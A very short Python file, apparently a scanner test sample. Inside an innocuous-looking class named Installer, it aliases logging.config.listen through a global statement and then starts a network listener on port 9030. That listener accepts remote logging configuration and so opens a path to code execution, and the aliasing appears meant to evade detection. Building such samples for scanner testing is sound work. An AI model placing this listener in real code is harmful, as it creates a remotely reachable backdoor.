import logging.config


class Installer:
    global start
    start = logging.config.listen


start(9030)
